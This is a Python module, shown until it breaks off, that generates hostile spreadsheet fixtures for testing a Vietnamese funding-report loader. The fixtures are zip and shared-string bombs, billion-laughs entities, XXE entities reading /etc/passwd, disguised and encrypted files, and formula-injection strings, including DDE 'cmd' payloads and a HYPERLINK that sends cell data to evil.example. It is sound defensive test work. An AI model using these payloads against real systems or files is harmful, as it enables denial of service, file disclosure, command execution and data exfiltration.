"""Bad files built in code: bombs, entity expansion, disguised types, absurd values, odd encodings.

``plan(out)`` lists the cases (nothing written); ``build(cases)`` writes their files, each through
its ``make``. Files are deterministic and small on disk (a zip bomb is a small zip that inflates to
hundreds of MB), except the two CSVs with a 50 MB line, written when built.

``HostileCase.expect`` says what ``inspect_file`` must make of a file:

- ``"error:<code>"``: one clear error. A file-level code (unreadable_file, password_protected,
  empty_file, unsupported_type) is the report's only issue and no_table its only error; with a
  row-level code (unknown_district, bad_number, bad_date …) every error has that code, and
  ``cell``, when given, is among the cells they name.
- ``"ok"``: readable, no error; records and warnings are fine (``records``, when given, is the
  exact count; ``cell``, when given, is named by some issue).

Whatever the case, no record value is inf or NaN, ``as_of`` (when given) is the date of every
record, and no text of ``forbidden`` appears in any record or message. ``weakness`` marks what
the loaders should do and do not do yet: the test of that case is an expected failure, and the
text says which loader change would fix it. An ``isolated`` case crashes the process or takes
gigabytes today, so it is read alone in its own child process.
"""

from __future__ import annotations

import datetime as dt
import random
import shutil
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from loaders.reference import ROOT, districts, leaf_components, leaf_sources, sources
from loaders.template import FIXED_TIME, build_workbook, component_label, save_workbook
from loaders.template_spec import FUNDING

AS_OF = dt.date(2017, 10, 31)
# One good funding row; the template writes it on row 4 (A district … F plan, G disbursed).
ROW = dict(district_code="107", year=2017, as_of=AS_OF, component="1.1", source="central_investment",
           plan=1000.0, disbursed=400.0)
HEADERS = [c.header for c in FUNDING.columns]
# Written into a file that an external entity points at: it must never come back in a report.
SENTINEL = "HOSTILE-SENTINEL-7f3a9c"
PASSWD_MARKERS = ("root:x:0:", "/usr/sbin/nologin", "/bin/bash", SENTINEL)
# Text that a spreadsheet would run as a formula (CSV / Excel injection), typed where a district goes.
FORMULA_TEXTS = (
    "=1+1",
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
FORMULA_NAMING_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"Mường Tè")'
PEER_ENCRYPTED = ROOT.parent / "shared" / "peer-spreadsheets" / "calamine" / "pass_protected.xlsx"


@dataclass(frozen=True)
class HostileCase:
    """One bad file and what reading it must give."""

    name: str
    path: Path
    expect: str  # "ok" or "error:<code>"
    note: str = ""
    records: int | None = None  # for "ok": exactly this many records
    cell: str | None = None  # an issue of the expected code (for "ok": any issue) names this cell
    as_of: dt.date | None = None  # every record read carries this date
    forbidden: tuple[str, ...] = ()  # text that must not appear in any record or message
    max_seconds: float | None = None  # inspect_file takes less than this
    weakness: str = ""  # set: the loaders do not do this yet (expected failure, with the fix to make)
    isolated: bool = False  # crashes or exhausts memory today: read alone, in its own child process
    make: Callable[[Path], object] = field(default=lambda path: None, compare=False, repr=False)  # writes path

    @property
    def code(self) -> str | None:
        """The expected error code, or None for "ok"."""
        return self.expect.split(":", 1)[1] if self.expect.startswith("error:") else None


# --- writing files ---------------------------------------------------------------------------------


def template_texts(**changes: str) -> list[str]:
    """The good funding row as the template's cell texts, with some fields changed."""
    row = dict(district=districts()["107"].name_vi, year="2017", as_of="31/10/2017",
               component=component_label("1.1"), source=sources()["central_investment"].short_vi,
               plan="1000", disbursed="400")
    row.update(changes)
    return [row[c.field] for c in FUNDING.columns]


def put(ws: Worksheet, cell: str, value: Any) -> None:
    """Write a value; text starting with '=' stays text (openpyxl would make it a formula)."""
    ws[cell] = value
    if isinstance(value, str) and value.startswith("="):
        ws[cell].data_type = "s"


def template_xlsx(path: Path, edit: Callable[[Worksheet], None] | None = None,
                  rows: Iterable[dict[str, Any]] = (ROW,)) -> Path:
    """A template workbook with funding rows; ``edit`` changes its funding sheet before saving."""
    wb = build_workbook(funding=rows)
    if edit:
        edit(wb[FUNDING.name])
    return save_workbook(wb, path)


def template_bytes(path: Path) -> bytes:
    """The bytes of a template workbook holding the good row, saved (deterministically) at path."""
    return template_xlsx(path).read_bytes()


def template_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    """A CSV in the template's funding layout; named like the sheet ('Giải ngân.csv'), it is read as the template."""
    lines = [",".join(_csv_field(v) for v in row) for row in [HEADERS, *rows]]
    text = "\r\n".join(lines) + "\r\n"
    path.write_bytes((_cp1258_form(text) if encoding == "cp1258" else text).encode(encoding))
    return path


_TONES = frozenset("\u0300\u0301\u0303\u0309\u0323")


def _cp1258_form(text: str) -> str:
    """Vietnamese as Windows-1258 writes it: letters with their shape (â, ơ …), tone marks combining."""
    out = []
    for ch in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", ch)
        tones = "".join(p for p in parts if p in _TONES)
        out.append(unicodedata.normalize("NFC", "".join(p for p in parts if p not in _TONES)) + tones)
    return "".join(out)


def _csv_field(value: str) -> str:
    return f'"{value.replace(chr(34), chr(34) * 2)}"' if any(ch in value for ch in ',"\r\n') else value


def rewrite_zip(data: bytes, path: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """Copy a zip's entries to path through ``change`` (None drops the entry)."""
    with zipfile.ZipFile(BytesIO(data)) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            new = change(info.filename, src.read(info.filename))
            if new is not None:
                dst.writestr(zipfile.ZipInfo(info.filename, date_time=(2020, 1, 1, 0, 0, 0)), new,
                             compress_type=zipfile.ZIP_DEFLATED)
    return path


_MAIN_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL_NS = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_PKG_RELS = b"http://schemas.openxmlformats.org/package/2006/relationships"
_DOC_RELS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def sheet_xml(body: bytes, head: bytes = b"", doctype: bytes = b"") -> bytes:
    """A worksheet part: ``head`` before <sheetData> (e.g. <dimension>), ``body`` its rows."""
    return XML_DECL + doctype + b"<worksheet " + _MAIN_NS + b">" + head + b"<sheetData>" + body + b"</sheetData></worksheet>"


def raw_xlsx(path: Path, sheets: dict[str, bytes | Iterable[bytes]], *,
             shared_strings: bytes | Iterable[bytes] | None = None, parts: dict[str, bytes] | None = None,
             level: int = 6) -> Path:
    """An .xlsx package written part by part; a sheet or shared strings given as chunks are streamed (for bombs)."""
    overrides = b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    wb_sheets, wb_rels = b"", b""
    for i, name in enumerate(sheets, start=1):
        overrides += (b'<Override PartName="/xl/worksheets/sheet%d.xml" ContentType="application/'
                      b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' % i)
        wb_sheets += b'<sheet name="%s" sheetId="%d" r:id="rId%d"/>' % (name.encode(), i, i)
        wb_rels += b'<Relationship Id="rId%d" Type="%s/worksheet" Target="worksheets/sheet%d.xml"/>' % (i, _DOC_RELS, i)
    if shared_strings is not None:
        wb_rels += b'<Relationship Id="rIdS" Type="%s/sharedStrings" Target="sharedStrings.xml"/>' % _DOC_RELS
    fixed = {
        "[Content_Types].xml": XML_DECL + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>' + overrides + b"</Types>",
        "_rels/.rels": XML_DECL + b'<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/officeDocument" '
        b'Target="xl/workbook.xml"/></Relationships>' % (_PKG_RELS, _DOC_RELS),
        "xl/workbook.xml": XML_DECL + b"<workbook " + _MAIN_NS + b" " + _REL_NS + b"><sheets>" + wb_sheets
        + b"</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": XML_DECL + b'<Relationships xmlns="%s">' % _PKG_RELS + wb_rels + b"</Relationships>",
    }
    fixed.update(parts or {})
    streamed: dict[str, bytes | Iterable[bytes]] = {f"xl/worksheets/sheet{i}.xml": content
                                                    for i, content in enumerate(sheets.values(), start=1)}
    if shared_strings is not None:
        streamed["xl/sharedStrings.xml"] = shared_strings
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in fixed.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED)
        for name, content in streamed.items():
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if isinstance(content, bytes):
                zf.writestr(info, content)
                continue
            with zf.open(info, "w", force_zip64=True) as fh:
                for chunk in content:
                    fh.write(chunk)
    return path


def shared_string_cells(path: Path, text: bytes | Iterable[bytes], cells: int) -> Path:
    """An .xlsx whose one shared string (given whole, or in chunks) fills A1:A<cells>: calamine copies it into each."""
    def sst() -> Iterable[bytes]:
        yield XML_DECL + b"<sst " + _MAIN_NS + b' count="%d" uniqueCount="1"><si><t>' % cells
        yield from ([text] if isinstance(text, bytes) else text)
        yield b"</t></si></sst>"

    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (r, r) for r in range(1, cells + 1))
    return raw_xlsx(path, {"Sheet1": sheet_xml(rows)}, shared_strings=sst(), level=9)


def shared_string_bomb(path: Path, megabytes: int, cells: int) -> Path:
    """One shared string of megabytes MB in cells cells: 100 MB × 1,000 is a 106 KB file that asks for 100 GB."""
    return shared_string_cells(path, (b"A" * (1 << 20) for _ in range(megabytes)), cells)


def rich_text_string(path: Path, runs: int, run_chars: int = 10) -> Path:
    """One shared string of runs × run_chars characters in A1, each run in bold: far more bytes than characters."""
    run = b"<r><rPr><b/><sz val=\"11\"/></rPr><t>" + b"x" * run_chars + b"</t></r>"
    sst = XML_DECL + b"<sst " + _MAIN_NS + b' count="1" uniqueCount="1"><si>' + run * runs + b"</si></sst>"
    return raw_xlsx(path, {"Sheet1": sheet_xml(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>')}, shared_strings=sst)


def inline(ref: str, text: str) -> bytes:
    """An inline-string cell."""
    return b'<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref.encode(), text.encode())


def _compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (version 3) whose root holds the given streams.

    Each stream takes 4096 bytes (the mini-stream cutoff), so no mini FAT is needed:
    sector 0 is the FAT, sector 1 the directory, then each stream's eight sectors.
    """
    free, end, fat_sector, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [fat_sector, end]
    data = b""
    starts = []
    for payload in streams.values():
        starts.append(len(fat))
        first = len(fat)
        fat += [first + i + 1 for i in range(7)] + [end]
        data += payload[:4096].ljust(4096, b"\0")
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, right: int = nostream, child: int = nostream) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, nostream, right, child)
                + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, size))

    names = list(streams)
    entries = [entry("Root Entry", 5, end, 0, child=1)]
    for i, (name, start) in enumerate(zip(names, starts), start=1):
        # siblings in a chain to the right; names sort by length, then case-insensitively
        entries.append(entry(name, 2, start, 4096, right=i + 1 if i < len(names) else nostream))
    directory = b"".join(entries).ljust(512, b"\0")
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"), b"\0" * 16, 0x3E, 3, 0xFFFE,
                         9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *([free] * 108))
    return header + struct.pack("<128I", *fat) + directory + data


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


_PDF = (b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
        b"trailer <</Root 1 0 R>>\n%%EOF\n")

_ODS_NS = (b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')


def ods(path: Path, tables: dict[str, bytes]) -> Path:
    """An OpenDocument spreadsheet; each table given as its rows' XML."""
    body = b"".join(b'<table:table table:name="%s">%s</table:table>' % (name.encode(), rows) for name, rows in tables.items())
    content = (XML_DECL + b"<office:document-content " + _ODS_NS + b' office:version="1.2"><office:body>'
               b"<office:spreadsheet>" + body + b"</office:spreadsheet></office:body></office:document-content>")
    manifest = (XML_DECL + b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                b'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                b'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w") as zf:
        stamp = (2020, 1, 1, 0, 0, 0)
        zf.writestr(zipfile.ZipInfo("mimetype", stamp), b"application/vnd.oasis.opendocument.spreadsheet")
        for name, data in (("META-INF/manifest.xml", manifest), ("content.xml", content)):
            zf.writestr(zipfile.ZipInfo(name, stamp), data, compress_type=zipfile.ZIP_DEFLATED)
    return path


def _ods_row(cells: list[Any]) -> bytes:
    out = b""
    for value in cells:
        if isinstance(value, dt.date):
            out += b'<table:table-cell office:value-type="date" office:date-value="%s"><text:p>%s</text:p></table:table-cell>' % (
                value.isoformat().encode(), value.strftime("%d/%m/%Y").encode())
        elif isinstance(value, (int, float)):
            out += b'<table:table-cell office:value-type="float" office:value="%s"><text:p>%s</text:p></table:table-cell>' % (
                str(value).encode(), str(value).encode())
        else:
            out += b'<table:table-cell office:value-type="string"><text:p>%s</text:p></table:table-cell>' % value.encode()
    return b"<table:table-row>" + out + b"</table:table-row>"


# --- .xlsb: BIFF12 records in a zip --------------------------------------------------------------------


def _record(kind: int, data: bytes = b"") -> bytes:
    """One BIFF12 record: type and size as 7-bit varints, then the data."""
    head = bytes([kind]) if kind < 0x80 else bytes([(kind & 0x7F) | 0x80, kind >> 7])
    size, n = b"", len(data)
    while True:
        byte, n = n & 0x7F, n >> 7
        size += bytes([byte | (0x80 if n else 0)])
        if not n:
            break
    return head + size + data


def _wide(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


def xlsb(path: Path, name: str, rows: list[list[Any]], *, cells: list[bytes] | None = None) -> Path:
    """A minimal .xlsb of one sheet: rows of text and numbers, or raw cell records (``cells``)."""
    book = (_record(0x83) + _record(0x8F) + _record(0x9C, struct.pack("<II", 0, 1) + _wide("rId1") + _wide(name))
            + _record(0x90) + _record(0x9D, b"\0" * 8) + _record(0x84))
    body = b""
    for r, row in enumerate(rows):
        body += _record(0x00, struct.pack("<IIHBBB", r, 0, 300, 0, 0, 0))
        for c, value in enumerate(row):
            if isinstance(value, str):
                body += _record(0x06, struct.pack("<II", c, 0) + _wide(value))
            elif value is not None:
                body += _record(0x05, struct.pack("<IId", c, 0, float(value)))
    body += b"".join(cells or [])
    width = max((len(r) for r in rows), default=1)
    sheet = (_record(0x81) + _record(0x94, struct.pack("<IIII", 0, max(len(rows) - 1, 0), 0, width - 1))
             + _record(0x91) + body + _record(0x92) + _record(0x82))
    rels = (XML_DECL + b'<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/worksheet" '
            b'Target="worksheets/sheet1.bin"/></Relationships>' % (_PKG_RELS, _DOC_RELS))
    types = (XML_DECL + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             b'<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
             b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>')
    pkg_rels = (XML_DECL + b'<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/officeDocument" '
                b'Target="xl/workbook.bin"/></Relationships>' % (_PKG_RELS, _DOC_RELS))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for part, data in (("[Content_Types].xml", types), ("_rels/.rels", pkg_rels), ("xl/workbook.bin", book),
                           ("xl/_rels/workbook.bin.rels", rels), ("xl/worksheets/sheet1.bin", sheet)):
            zf.writestr(zipfile.ZipInfo(part, (2020, 1, 1, 0, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED)
    return path


def xls(path: Path, cells: list[tuple[int, int, float]]) -> Path:
    """A minimal BIFF8 .xls (an OLE2 'Workbook' stream) of one sheet of NUMBER cells (row, column, value)."""
    def record(kind: int, data: bytes = b"") -> bytes:
        return struct.pack("<HH", kind, len(data)) + data

    def bof(kind: int) -> bytes:
        return record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))

    name = b"Sheet1"
    head, eof = bof(0x0005) + record(0x0042, struct.pack("<H", 1200)), record(0x000A)
    sheet_at = len(head) + 4 + 8 + len(name) + len(eof)  # the BOUNDSHEET record is 4 + 8 + name bytes
    bound = record(0x0085, struct.pack("<IBBBB", sheet_at, 0, 0, len(name), 0) + name)
    sheet = bof(0x0010) + record(0x0200, struct.pack("<IIHHH", 0, 1, 0, 1, 0))
    sheet += b"".join(record(0x0203, struct.pack("<HHHd", r, c, 0, v)) for r, c, v in cells) + eof
    stream = head + bound + eof + sheet
    stream += record(0x00EF, b"\0" * (4096 - len(stream) - 4))  # an ignored record fills the stream to 4096 bytes
    path.write_bytes(_compound_file({"Workbook": stream}))
    return path


def template_grid() -> list[list[Any]]:
    """The template's funding sheet as plain values: title, note, header, one row (date as Excel serial)."""
    serial = (AS_OF - dt.date(1899, 12, 30)).days
    values = template_texts()
    values[1:3] = [2017, serial]
    values[5:7] = [1000.0, 400.0]
    return [[FUNDING.title], ["Đơn vị tính: triệu đồng"], HEADERS, values]


# --- the cases -------------------------------------------------------------------------------------------
# Each group function returns its cases without writing anything; ``build`` writes their files.

ERROR = "error:"


def _zip_bomb(path: Path) -> None:
    row = b"<row>" + b"<c><v>1</v></c>" * 10 + b"</row>"

    def chunks() -> Iterable[bytes]:
        yield XML_DECL + b"<worksheet " + _MAIN_NS + b"><sheetData>"
        block = row * 10_000
        for _ in range(200):  # 2 million rows: 322 MB of sheet XML, about 1.2 MB on disk
            yield block
        yield b"</sheetData></worksheet>"

    raw_xlsx(path, {"Sheet1": chunks()}, level=9)


def _one_sheet(body: bytes) -> Callable[[Path], object]:
    return lambda path: raw_xlsx(path, {"Sheet1": sheet_xml(body)})


def _huge_dimension(path: Path) -> None:
    def change(name: str, data: bytes) -> bytes:
        if name.startswith("xl/worksheets/"):
            return data.replace(b'<dimension ref="A1:G4"/>', b'<dimension ref="A1:XFD1048576"/>')
        return data

    rewrite_zip(template_bytes(path), path, change)


def bomb_and_dimension_cases(out: Path) -> list[HostileCase]:
    a1 = b'<row r="1">' + inline("A1", "Huyện") + b"</row>"
    unreadable = ERROR + "unreadable_file"
    return [
        HostileCase("zip_bomb", out / "zip_bomb.xlsx", unreadable,
                    "an .xlsx whose sheet XML inflates from 1.2 MB to 322 MB (20 million cells)", make=_zip_bomb),
        HostileCase("huge_dimension", out / "huge_dimension.xlsx", "ok", "a valid template whose funding sheet "
                    'declares <dimension ref="A1:XFD1048576"/> over its few cells', records=2, as_of=AS_OF,
                    make=_huge_dimension),
        HostileCase("cell_at_XFD1048576", out / "cell_at_XFD1048576.xlsx", ERROR + "no_table",
                    "one number in the last cell of a sheet",
                    make=_one_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        HostileCase("far_corners", out / "far_corners.xlsx", unreadable,
                    "two cells, A1 and XFD1048576: calamine's dense grid would be 17 billion cells",
                    make=_one_sheet(a1 + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        HostileCase("stray_cell_far_below", out / "stray_cell_far_below.xlsx", unreadable,
                    "a note in A1 and a stray number in Z1048576: 27 million cells between them",
                    make=_one_sheet(a1 + b'<row r="1048576"><c r="Z1048576"><v>1</v></c></row>')),
        HostileCase("far_positional_cells", out / "far_positional_cells.xlsx", unreadable,
                    "cells without r=: 2,000 in row 1, one in row 1,048,576 (two billion cells)",
                    make=_one_sheet(b'<row r="1">' + b"<c><v>1</v></c>" * 2000
                                    + b'</row><row r="1048576"><c><v>1</v></c></row>')),
        HostileCase("far_corners_odd_markup", out / "far_corners_odd_markup.xlsx", unreadable,
                    "a1 and xfd1048576 written with tabs, new lines, single quotes and spaces around =",
                    make=_one_sheet(b"<row\tr='1'><c\tr = 'a1'><v>1</v></c></row>"
                                    b'<row\nr="1048576"><c\nr =\t"xfd1048576"><v>1</v></c></row>')),
    ]


_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                      for i in range(1, 10)) + b"]>")
_SHARED_A1 = sheet_xml(b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>')


def _sst(text: bytes, doctype: bytes = b"") -> bytes:
    return (XML_DECL + doctype + b"<sst " + _MAIN_NS + b' count="1" uniqueCount="1"><si><t>' + text
            + b"</t></si></sst>")


def _xxe(path: Path) -> bytes:
    """A DOCTYPE with external entities: /etc/passwd, and a file holding SENTINEL next to path."""
    secret = path.parent / "sentinel.txt"
    secret.write_text(SENTINEL + "\n", encoding="utf-8")
    return (b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY sen SYSTEM "%s">]>'
            % secret.as_uri().encode())


def _xxe_core_properties(path: Path) -> None:
    # Legacy-font text (TCVN3) sends the reader to openpyxl for font names: the entities sit where only
    # openpyxl looks (the document properties), to check that path too.
    core = (XML_DECL + _xxe(path) + b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            b'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;&sen;</dc:title>'
            b"</cp:coreProperties>")
    tcvn3 = sheet_xml(b'<row r="1">' + inline("A1", "B¸o c¸o kÕt qu¶ gi¶i ng©n") + b"</row>")
    raw_xlsx(path, {"Sheet1": tcvn3}, parts={"docProps/core.xml": core})


def entity_cases(out: Path) -> list[HostileCase]:
    unreadable = ERROR + "unreadable_file"
    inline_a1 = b'<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c></row>'
    return [
        HostileCase("billion_laughs_shared_strings", out / "billion_laughs_sst.xlsx", unreadable,
                    "10⁹ 'lol' from nested entities in sharedStrings.xml",
                    make=lambda p: raw_xlsx(p, {"Sheet1": _SHARED_A1}, shared_strings=_sst(b"&lol9;", _LAUGHS))),
        HostileCase("billion_laughs_sheet", out / "billion_laughs_sheet.xlsx", unreadable,
                    "the same nested entities in an inline string of the sheet",
                    make=lambda p: raw_xlsx(p, {"Sheet1": sheet_xml(inline_a1 % b"&lol9;", doctype=_LAUGHS)})),
        HostileCase("xxe_shared_strings", out / "xxe_sst.xlsx", unreadable,
                    "external entities (/etc/passwd, a local file) in sharedStrings.xml", forbidden=PASSWD_MARKERS,
                    make=lambda p: raw_xlsx(p, {"Sheet1": _SHARED_A1}, shared_strings=_sst(b"&xxe;&sen;", _xxe(p)))),
        HostileCase("xxe_sheet", out / "xxe_sheet.xlsx", unreadable,
                    "external entities in an inline string of the sheet", forbidden=PASSWD_MARKERS,
                    make=lambda p: raw_xlsx(p, {"Sheet1": sheet_xml(inline_a1 % b"&xxe;&sen;", doctype=_xxe(p))})),
        HostileCase("xxe_openpyxl_path", out / "xxe_core_props.xlsx", ERROR + "no_table",
                    "TCVN3 text (its fonts are read with openpyxl) and external entities in docProps/core.xml",
                    forbidden=PASSWD_MARKERS, make=_xxe_core_properties),
    ]


def _write(data: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(data)


def _docx(path: Path) -> None:
    parts = {
        "[Content_Types].xml": XML_DECL + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": XML_DECL + b'<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/officeDocument" '
        b'Target="word/document.xml"/></Relationships>' % (_PKG_RELS, _DOC_RELS),
        "word/document.xml": XML_DECL + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
        b'2006/main"><w:body><w:p><w:r><w:t>' + "Huyện Mường Tè: kế hoạch 1000, giải ngân 400".encode()
        + b"</w:t></w:r></w:p></w:body></w:document>",
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED)


def _truncated(path: Path) -> None:
    good = template_bytes(path)
    path.write_bytes(good[: len(good) // 2])


def disguised_cases(out: Path) -> list[HostileCase]:
    unreadable = ERROR + "unreadable_file"
    return [
        HostileCase("png_as_xlsx", out / "picture.png.xlsx", unreadable, "a PNG image renamed .xlsx", make=_write(_png())),
        HostileCase("pdf_as_xlsx", out / "report.pdf.xlsx", unreadable, "a PDF renamed .xlsx", make=_write(_PDF)),
        HostileCase("docx_as_xlsx", out / "letter.docx.xlsx", unreadable,
                    "a Word document (a zip with word/document.xml) renamed .xlsx", make=_docx),
        HostileCase("missing_workbook_xml", out / "missing_workbook_xml.xlsx", unreadable,
                    "a template .xlsx without xl/workbook.xml",
                    make=lambda p: rewrite_zip(template_bytes(p), p, lambda n, d: None if n == "xl/workbook.xml" else d)),
        HostileCase("truncated_xlsx", out / "truncated.xlsx", unreadable, "the first half of a template .xlsx",
                    make=_truncated),
        HostileCase("garbage_xls", out / "garbage.xls", unreadable, "4 KB of random bytes named .xls",
                    make=_write(random.Random("garbage.xls").randbytes(4096))),
        HostileCase("malformed_sheet_xml", out / "malformed_sheet_xml.xlsx", unreadable, "sheet XML with an unclosed <c>",
                    make=lambda p: raw_xlsx(p, {"Sheet1": XML_DECL + b"<worksheet " + _MAIN_NS
                                                + b'><sheetData><row r="1"><c r="A1"><v>1</v></row>'})),
        HostileCase("directory_named_xlsx", out / "folder.xlsx", unreadable, "a folder whose name ends in .xlsx",
                    make=lambda p: p.mkdir(exist_ok=True)),
        HostileCase("json_file", out / "report.json", ERROR + "unsupported_type", "a .json file",
                    make=_write('{"district": "Mường Tè", "plan": 1000}'.encode())),
    ]


def _encrypted(path: Path) -> None:
    info = (b"\x04\x00\x04\x00\x40\x00\x00\x00" + XML_DECL
            + b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>')
    package = struct.pack("<Q", 4088) + random.Random("encrypted").randbytes(4088)
    path.write_bytes(_compound_file({"EncryptionInfo": info, "EncryptedPackage": package}))


def encrypted_cases(out: Path) -> list[HostileCase]:
    cases = [HostileCase("encrypted_crafted", out / "encrypted.xlsx", ERROR + "password_protected",
                         "an OLE2 container holding EncryptionInfo and EncryptedPackage, as Excel saves a workbook "
                         "with a password", make=_encrypted)]
    if PEER_ENCRYPTED.is_file():
        cases.append(HostileCase("encrypted_by_excel", out / "pass_protected.xlsx", ERROR + "password_protected",
                                 "calamine's pass_protected.xlsx (a real encrypted workbook), copied",
                                 make=lambda p: shutil.copyfile(PEER_ENCRYPTED, p)))
    return cases


def _workbook(fill: Callable[[Worksheet], None]) -> Callable[[Path], object]:
    def make(path: Path) -> None:
        wb = Workbook()
        wb.properties.created = FIXED_TIME  # save_workbook pins the rest
        ws = wb.active
        assert ws is not None
        fill(ws)
        save_workbook(wb, path)
    return make


def _header_only(ws: Worksheet) -> None:
    ws.title = FUNDING.name
    ws.append(HEADERS)


def _merged_only(ws: Worksheet) -> None:
    for cells in ("A1:G3", "A4:C20", "D4:G20", "B22:F40"):
        ws.merge_cells(cells)


def empty_cases(out: Path) -> list[HostileCase]:
    no_table = ERROR + "no_table"
    return [
        HostileCase("empty_xlsx", out / "empty.xlsx", ERROR + "empty_file", "0 bytes named .xlsx", make=_write(b"")),
        HostileCase("empty_csv", out / "empty.csv", ERROR + "empty_file", "0 bytes named .csv", make=_write(b"")),
        HostileCase("blank_workbook", out / "blank_workbook.xlsx", no_table, "a valid workbook with one empty sheet",
                    make=_workbook(lambda ws: None)),
        HostileCase("workbook_without_sheets", out / "workbook_without_sheets.xlsx", no_table,
                    "a valid package whose <sheets> is empty", make=lambda p: raw_xlsx(p, {})),
        HostileCase("one_row_header_only", out / "one_row_header_only.xlsx", "ok",
                    "a 'Giải ngân' sheet of one row, the template headers: no records, a no_rows warning", records=0,
                    make=_workbook(_header_only)),
        HostileCase("one_row_numbers", out / "one_row_numbers.xlsx", no_table, "a sheet of one row of numbers",
                    make=_workbook(lambda ws: ws.append([1, 2, 3, 1000, 400]))),
